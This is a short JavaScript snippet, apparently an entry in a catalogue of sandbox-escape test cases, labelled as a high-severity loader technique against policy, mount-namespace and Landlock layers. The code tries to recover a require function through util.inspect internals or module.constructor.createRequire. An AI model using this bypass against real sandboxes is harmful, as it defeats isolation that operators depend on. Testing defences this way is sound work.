// technique: the loader of a module that was let through
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
const util = require('util');
readHost(() => {
  for (const key of Reflect.ownKeys(util.inspect)) {
    const f = util.inspect[key];
    if (typeof f === 'function' && f.cache) return f;
  }
  return module.children.concat(module)[0].constructor.createRequire('/x.js');
});
